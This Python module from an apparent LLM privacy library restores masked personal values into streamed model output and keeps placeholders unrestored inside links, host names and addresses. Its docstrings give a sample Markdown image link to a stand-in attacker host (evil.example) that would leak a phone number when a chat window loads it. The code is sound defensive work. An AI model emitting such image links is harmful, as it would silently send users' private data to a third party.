"""Puts values back into a stream of text, wherever the other side wrote one of our placeholders.

What counts as a placeholder: index and nonce exactly as issued, and around and between them what models and
Markdown do to them: another kind (translated, reworded) or none, any case, full-width characters, spaces and
line breaks inside, ``_`` escaped, replaced by ``-`` or lost, zeros before the index, brackets missing,
full-width or escaped as in Markdown, JSON, HTML and URLs. Without brackets the kind has to be one that was
issued, or a word of capital letters; a word with a capital letter (``Patient_1_k7q4``) if no space follows
it; and more words may follow it with ``_`` between (``FULL_NAME_1_k7q4``). What is joined to such a
placeholder by ``_`` stays (``NAME_1_k7q4_address``). The index is compared as a number and the nonce letter
by letter; nothing is guessed.

In JSON (:mod:`sllm.privacy.json_places`) a value is written so that the JSON stays valid: escaped in a
string, in quotes where there are none, and a number that was masked without them.

Where a value would be sent to somebody (:mod:`sllm.privacy.link_places`), its placeholder stays: the other
side could write ``![](https://evil.example/?q=[PHONE_1_k7q4])``, and a chat window loads images by itself.
"""

from __future__ import annotations

import functools
import html
import re
import urllib.parse
from dataclasses import dataclass
from typing import TYPE_CHECKING

from sllm.privacy.findings import KINDS
from sllm.privacy.json_places import JsonPlaces, encoded_string
from sllm.privacy.link_places import LinkPlaces
from sllm.privacy.regex import lazy
from sllm.privacy.text import fold_char, folded

if TYPE_CHECKING:
    from sllm.privacy.placeholders import Form, Placeholders

__all__ = ["Restorer"]

_OPEN = frozenset("[［【〔")
_CLOSE = frozenset("]］】〕")
# Brackets as other formats escape them: what opens, and what closes then.
_ENCODED = {"\\u005b": "\\u005d", "%5b": "%5d", "&#91;": "&#93;"}
_ENCODED_FIRST = frozenset(opening[0] for opening in _ENCODED)
_SPACE = frozenset(" \t\r\n\u00a0\u3000\u200b\u200c\u200d\u2060\ufeff\u202f")
_JOINER = frozenset("_-*‐‑–＿－")
_ESCAPE = "\\"
_ESCAPED_SPACE = frozenset("nrt")  # as JSON and programs write what is in _SPACE
# Bounds of what is skipped, so that what is held back is bounded too.
_MAX_SPACES = 4
_MAX_ZEROS = 6
_MAX_KIND = 24
# How far behind a placeholder the rest of a host name is looked for; there may be more placeholders in it.
_MAX_HOST = 512
_DIGITS = frozenset("0123456789")
_LETTERS = frozenset("abcdefghijklmnopqrstuvwxyz")
_ALPHANUMERIC = _LETTERS | _DIGITS

# The shape of a placeholder that was not issued, back from its closing bracket; and of one without a nonce.
_UNKNOWN = lazy(
    r"(?:[\[［【〔]|%5b|\\u005b|&#91;)\s?[^\W\d_]{1,16}[_\s-]{1,4}[0-9]{1,9}(?:[_\s-]|\\[nrt]){1,4}[a-z][a-z0-9]{3,11}\s?\Z",
    re.I,
)
_WITHOUT_NONCE = lazy(
    r"(?:[\[［【〔]|%5b|\\u005b|&#91;)\s?([a-z]{2,16})[_\s-]{1,4}0{0,6}([1-9][0-9]{0,8})\s?\Z", re.I
)
_BRACKET = lazy(r"[\[\]]")
_CLOSING = lazy(r"[\]］】〕]|%5d|\\u005d|&#93;", re.I)
_TAIL = 80
_LONGEST_NONCE = 16  # characters at the border of two pieces that may belong to one

# What ends a label of a host name for every program that looks for such names, and what ends an address.
_SEPARATORS = r"\s<>!'()*/?{}，。！？；：、…“”‘’「」『』《》〈〉（）／—·｡､"
_LABEL = lazy(rf"[^{_SEPARATORS}.．@＠\"#&,:;]*")
_MAILBOX = lazy(rf"[^{_SEPARATORS}@＠]*")
_ENTITY = lazy(r"&#?[A-Za-z0-9]{1,8};")
_HOST = lazy(rf"[^{_SEPARATORS}@＠\"#&,:;]*")
# A name of a host or a top-level domain; "[PHONE_1_k7q4].谢谢" has none.
_IS_HOST = lazy(r"[A-Za-z0-9]|[^\W_][^.．]*[.．][^\W_]")
_ALNUM = lazy(r"[^\W_]")
# A value that is a URL without a path: what follows may be more of its host.
_HOST_AT_END = lazy(r"(?://|(?<![^\W_])www\.)[^/?#\\\s]*\Z", re.I)
_REST_OF_HOST = lazy(r"""[^\s/?#\\"'<>]*""")
_OTHER_HOST = lazy(r"[@＠%]|[.．][^\W_]|[。｡][A-Za-z0-9]")


@functools.lru_cache(maxsize=256)
def _starts(firsts: str, *, quotes: bool) -> re.Pattern[str]:
    """Where a placeholder can begin: at a bracket or its escape, at a capital letter or a first letter of a
    kind, and with ``quotes`` at the quote before a number that was masked.
    """
    wide = "".join(chr(ord(char) + offset) for char in firsts for offset in (0, 0xFEE0))
    quote = '"' if quotes else ""
    return re.compile(rf"[\\%&\[［【〔{quote}]|(?<![A-Za-z0-9])[A-ZＡ-Ｚ{wide}]")


class _UndecidedError(Exception):
    """What was received so far does not decide whether it is a placeholder."""


@dataclass(frozen=True, slots=True)
class _Match:
    """A placeholder in a text: the offset behind it, what it stands for, the bracket that opens it (or ""),
    and whether it is taken together with the quotes around it.
    """

    end: int
    form: Form
    opening: str
    quoted: bool = False


class _Reader:
    """Reads what was received so far, character by character.

    Raises:
        _UndecidedError: a character that was not received yet, from any of the methods.

    """

    def __init__(self, text: str, final: bool) -> None:
        self._text = text
        self._final = final

    def at(self, j: int) -> str:
        """The character at an offset; "" after the end of the whole text."""
        if j < len(self._text):
            return self._text[j]
        if self._final:
            return ""
        raise _UndecidedError

    def folded(self, j: int) -> str:
        char = self.at(j)
        return fold_char(char) if char else ""

    def literal(self, j: int, expected: str) -> bool:
        """Whether this stands at ``j``, in any case."""
        return all(self.at(j + i).lower() == char for i, char in enumerate(expected))

    def skip(self, j: int) -> int:
        """The offset after the spaces that begin at ``j``."""
        for _ in range(_MAX_SPACES):
            if self.at(j) in _SPACE:
                j += 1
            elif self.at(j) == _ESCAPE and self.at(j + 1) in _ESCAPED_SPACE:
                j += 2
            else:
                break
        return j

    def joint(self, j: int) -> int:
        """The offset after the sign that joins two parts of a placeholder, and the spaces around it."""
        j = self.skip(j)
        for _ in range(2):
            if self.at(j) == _ESCAPE:
                j += 1
        if self.at(j) in _JOINER:
            j += 1
        return self.skip(j)


class Restorer:
    """Restores placeholders in a text that comes in pieces.

    ``feed`` returns all that is certain; held back is only what could still become a placeholder that was
    issued, and one that a host name may follow: to the next space or punctuation mark, 512 characters at
    most. Together the pieces are the same however the text was cut. Restored values are not searched again,
    so a value that contains the text of a placeholder stays what it is.

    A placeholder stays as it is where a program that shows the text might send the value to somebody, for the
    other side could write ``![](https://evil.example/?q=[PHONE_1_k7q4])``: in URLs and host names, in targets
    of links and images, in reference definitions, in HTML tags, scripts and style sheets, and where what
    follows makes it part of a host name or an e-mail address (``[NAME_1_k7q4].evil.example``). In doubt it
    stays. A URL in running text goes to the next space, as for GitHub and most chat windows, also in Chinese,
    which puts none behind it. A value that is itself a URL or an address is restored in running text.

    Args:
        placeholders: of a vault (:attr:`Vault.placeholders <sllm.Vault.placeholders>`); those that it issues
            later are restored too.
        in_links: whether these are restored too: only for a text that nobody else has written.

    Attributes:
        n_restored: placeholders replaced so far.
        n_unknown: what looks like a placeholder and was never issued, or has lost its index or its nonce; it
            stays as it is.
        n_in_links: placeholders that were issued and stay as they are, because of where they stand.

    Examples:
        >>> vault = sllm.Vault()
        >>> phone = vault.mask("13800138000").text
        >>> restorer = Restorer(vault.placeholders)
        >>> text = restorer.feed(f"Call {phone} ![](https://evil.example/?q={phone})") + restorer.finish()
        >>> text == f"Call 13800138000 ![](https://evil.example/?q={phone})", restorer.n_in_links
        (True, 1)

    """

    def __init__(self, placeholders: Placeholders, *, in_links: bool = False) -> None:
        self._restores_in_links = in_links
        self._placeholders = placeholders
        self._held = ""
        self._before = ""  # the last character before what is held
        self._depth = 0  # brackets open on this line
        self._tail = ""  # the last of the raw text, for counting
        self._final = False
        self.n_restored = 0
        self.n_unknown = 0
        self.n_in_links = 0
        self._missed = ""  # the last of what was returned unchanged, folded, for counting
        self._places = LinkPlaces()  # of the text as it is returned
        self._json = JsonPlaces()  # likewise

    def __repr__(self) -> str:
        return (
            f"<Restorer: {self.n_restored} restored, {self.n_unknown} unknown, {len(self._held)} "
            f"characters held>"
        )

    def feed(self, chunk: str) -> str:
        """Takes the next piece, and returns the restored text that is certain by now.

        Raises:
            ValueError: after :meth:`finish`.
            TypeError: ``chunk`` is not a str.

        """
        if not isinstance(chunk, str):
            raise TypeError(f"expected a text, got {type(chunk).__name__}")
        if self._final:
            raise ValueError("the text was finished; a new text needs a new Restorer")
        self._count(chunk)
        return self._scan(self._held + chunk)

    def finish(self) -> str:
        """Ends the text, and returns what was held back."""
        if self._final:
            return ""
        self._final = True
        return self._scan(self._held)

    def _scan(self, text: str) -> str:
        issued = self._placeholders
        if not issued.kind_prefixes:
            self._held = ""
            self._pass(text)
            return text
        firsts = "".join(sorted(prefix for prefix in issued.kind_prefixes if len(prefix) == 1))
        starts = _starts(firsts, quotes=issued.has_scalars)
        out: list[str] = []
        at = 0  # up to here everything is in `out`
        search = 0
        while True:
            found = starts.search(text, search)
            if found is None:
                break
            i = found.start()
            before = text[i - 1] if i else self._before
            self._pass(text[at:i])
            out.append(text[at:i])
            at = i
            try:
                match = self._match(text, i, before)
                in_link = match is not None and self._in_link(text, match.end, match.form.text)
            except _UndecidedError:
                self._held = text[i:]
                return "".join(out)
            if match is None:
                search = i + 1
                continue
            at = search = match.end
            if in_link:
                self.n_in_links += 1
                self._pass(text[i : match.end], counted=True)
                out.append(text[i : match.end])
                continue
            value = self._written(match)
            out.append(value)
            self._json.feed(value)
            self._places.feed(value, restored=True)
            self.n_restored += 1
            self._missed = ""
            self._before = text[match.end - 1]
        self._held = ""
        self._pass(text[at:])
        out.append(text[at:])
        return "".join(out)

    def _pass(self, text: str, *, counted: bool = False) -> None:
        """Notes what is returned unchanged; ``counted``: it is a placeholder, and has been counted."""
        if not text:
            return
        if counted:
            self._missed = ""
        else:
            self._count_nonces(text)
        self._before = text[-1]
        self._json.feed(text)
        self._places.feed(text)
        line = text.rfind("\n")
        if line >= 0:
            self._depth = 0
            text = text[line + 1 :]
        for bracket in _BRACKET.finditer(text):
            self._depth = self._depth + 1 if bracket[0] == "[" else max(0, self._depth - 1)

    def _written(self, match: _Match) -> str:
        """How the value is written where the placeholder stands."""
        form = match.form
        place = self._json.place
        if place == "string":
            return encoded_string(form.text) if form.in_json is None else form.in_json
        if place == "value" and self._json.certain and not match.quoted and not form.is_scalar:
            return f'"{encoded_string(form.text)}"'
        if match.opening == "%5b" and self._places.inside:
            return urllib.parse.quote(form.text, safe="")
        return form.text

    def _match(self, text: str, i: int, before: str) -> _Match | None:
        """The placeholder that begins at ``i``, if one does."""
        reader = _Reader(text, self._final)
        if text[i] != '"':
            return self._match_bare(reader, i, before)
        # A string of JSON that is nothing but the placeholder of a number: the number has no quotes.
        if self._json.place != "value":
            return None
        match = self._match_bare(reader, i + 1, '"')
        if match is None or not match.form.is_scalar or reader.at(match.end) != '"':
            return None
        return _Match(match.end + 1, match.form, match.opening, quoted=True)

    def _match_bare(self, reader: _Reader, i: int, before: str) -> _Match | None:
        issued = self._placeholders
        j = i
        opening = ""
        escaped = False
        if reader.at(j) in _ENCODED_FIRST:
            opening = next((one for one in _ENCODED if reader.literal(j, one)), "")
            j += len(opening)
        if not opening:
            escaped = reader.at(j) == _ESCAPE
            j += escaped
            if reader.at(j) in _OPEN:
                opening = reader.at(j)
                j += 1
        if opening:
            kind, j = self._kind(reader, reader.skip(j))
        elif escaped or (before and fold_char(before) in _ALPHANUMERIC):
            return None
        else:
            kind, j = self._bare_kind(reader, j)
        if j < 0:
            return None
        j = reader.joint(j)
        for _ in range(_MAX_ZEROS):
            if reader.folded(j) != "0":
                break
            j += 1
        number = ""
        while (char := reader.folded(j)) in _DIGITS:
            number += char
            if number not in issued.index_prefixes:
                return None
            j += 1
        if not number:
            return None
        j = reader.joint(j)
        nonces = issued.nonces_of(int(number))
        nonce = ""
        while nonce not in nonces:
            nonce += reader.folded(j) or "\n"
            if not any(other.startswith(nonce) for other in nonces):
                return None
            j += 1
        following = reader.folded(j)[:1]
        # "[NAME_1_k7q4_address]": the brackets hold more than a placeholder, so it is taken without them.
        if following in _ALPHANUMERIC or (opening and following == "_"):
            return None
        end = self._end(reader, j, opening, escaped=escaped)
        form = issued.form(kind, int(number), nonce)
        return None if end is None or form is None else _Match(end, form, opening)

    def _kind(self, reader: _Reader, j: int) -> tuple[str, int]:
        """A kind in brackets, in lower case, which may be any words or none, and the offset behind it; -1: it
        is none.
        """
        start = j
        words: list[str] = []
        spaced = False
        while True:
            word = ""
            while (char := reader.folded(j)).isalpha():
                word += char.upper() if reader.at(j).isupper() else char
                j += 1
                if j - start > _MAX_KIND:
                    return "", -1
            words.append(word)
            behind = reader.joint(j)
            if behind == j or not reader.folded(behind).isalpha():
                break
            spaced = spaced or reader.at(j) in _SPACE
            j = behind
        # "[see NAME_1_k7q4]": the last word alone is the kind.
        if spaced and self._is_kind(words[-1]) and not all(map(self._is_kind, words)):
            return "", -1
        return "_".join(words).lower(), j

    def _is_kind(self, word: str) -> bool:
        return word.isupper() or word.lower() in self._placeholders.kind_prefixes

    def _bare_kind(self, reader: _Reader, j: int) -> tuple[str, int]:
        """A kind without brackets, and the offset behind it; -1: it is none. Its first word was issued, is of
        capital letters, or begins with one and is joined to what follows; further words are joined by ``_``.
        """
        start = j
        words = [""]
        capital = titled = reader.at(j).isupper()
        issued = True
        while True:
            char = reader.folded(j)
            if char in _LETTERS:
                words[-1] += char
                if len(words) == 1:
                    capital = capital and reader.at(j).isupper()
                    issued = issued and words[0] in self._placeholders.kind_prefixes
                    if not (capital or titled or issued):
                        return "", -1
                j += 1
            elif char == "_" and words[-1] and reader.folded(j + 1) in _LETTERS:
                words.append("")
                j += 1
            else:
                break
            if j - start > _MAX_KIND:
                return "", -1
        if not (capital or issued):
            sign = j + (reader.at(j) == _ESCAPE)
            if reader.at(sign) not in _JOINER:
                return "", -1
        return "_".join(words), j if words[-1] else -1

    def _in_link(self, text: str, end: int, value: str) -> bool:
        """Whether the value of a placeholder that ends at ``end`` would be part of a link."""
        if self._restores_in_links:
            return False
        if self._places.inside or self._places.begins_with(value):
            return True
        if _HOST_AT_END.search(value[-_MAX_HOST:]):
            rest, more = self._run(_REST_OF_HOST, text, end)
            if _OTHER_HOST.search(rest):
                return True
            if more:
                raise _UndecidedError
            return False
        # A host name or an address may go on behind it: [PHONE_1_k7q4].evil.example
        label, more = self._run(_LABEL, text, end)
        dot = end + len(label)
        return (not more and self._goes_on(text, dot, ".", _HOST, _IS_HOST)) or self._in_address(text, end)

    def _in_address(self, text: str, end: int) -> bool:
        """Whether what stands behind a placeholder, up to an ``@``, would make it part of an address."""
        mailbox, more = self._run(_MAILBOX, text, end)
        if any(html.unescape(entity[0]) in (".", "@") for entity in _ENTITY.finditer(mailbox)):
            return True
        if more:
            raise _UndecidedError
        return self._goes_on(text, end + len(mailbox), "@", _MAILBOX, _ALNUM)

    def _goes_on(self, text: str, at: int, sign: str, rest: re.Pattern[str], name: re.Pattern[str]) -> bool:
        """Whether there is this sign, and in the rest behind it a name."""
        if _Reader(text, self._final).folded(at) != sign:
            return False
        behind, more = self._run(rest, text, at + 1)
        if name.search(behind):
            return True
        if more:
            raise _UndecidedError
        return False

    def _run(self, pattern: re.Pattern[str], text: str, start: int) -> tuple[str, bool]:
        """What matches from ``start``, _MAX_HOST characters at most, and whether more of it may come."""
        found = pattern.match(text, start, min(len(text), start + _MAX_HOST))
        assert found is not None
        return found[0], found.end() == len(text) < start + _MAX_HOST and not self._final

    def _end(self, reader: _Reader, j: int, opening: str, *, escaped: bool) -> int | None:
        """The end of a placeholder whose nonce ends at ``j``; None if it is not one after all."""
        k = reader.skip(j) if opening else j
        if opening in _ENCODED:
            closing = _ENCODED[opening]
            return k + len(closing) if reader.literal(k, closing) else j
        escape = reader.at(k) == _ESCAPE
        closed = reader.at(k + escape) in _CLOSE
        if escaped and not (closed and escape):
            # The backslash is the text's own; the bracket after it begins the placeholder.
            return None
        if closed and not opening and reader.at(k + escape) == "]" and not escape and self._depth > 0:
            # It closes a bracket that was open before.
            closed = False
        return k + escape + 1 if closed else j

    def _count_nonces(self, text: str) -> None:
        """Counts the nonces in what is returned unchanged: each was a part of a placeholder."""
        seen = self._missed + folded(text).text
        for nonce in self._placeholders.nonces:
            at = seen.find(nonce, max(0, len(self._missed) - len(nonce) + 1))
            while at >= 0:
                self.n_unknown += 1
                at = seen.find(nonce, at + len(nonce))
        self._missed = seen[-_LONGEST_NONCE + 1 :]

    def _count(self, chunk: str) -> None:
        """Counts what looks like a placeholder without a nonce of ours, at the bracket that closes it."""
        text = self._tail + chunk
        start = len(self._tail)
        for close in _CLOSING.finditer(text, max(0, start - 5)):
            if close.end() <= start:
                continue
            before = text[max(0, close.start() - 60) : close.start()]
            if shape := _UNKNOWN.search(before):
                self.n_unknown += not any(nonce in shape[0].lower() for nonce in self._placeholders.nonces)
            elif shape := _WITHOUT_NONCE.search(before):
                kind, index = shape[1].lower(), int(shape[2])
                issued = self._placeholders
                known = kind.upper() in KINDS or kind in issued.kind_prefixes
                self.n_unknown += known and bool(issued.nonces_of(index))
        self._tail = text[-_TAIL:]
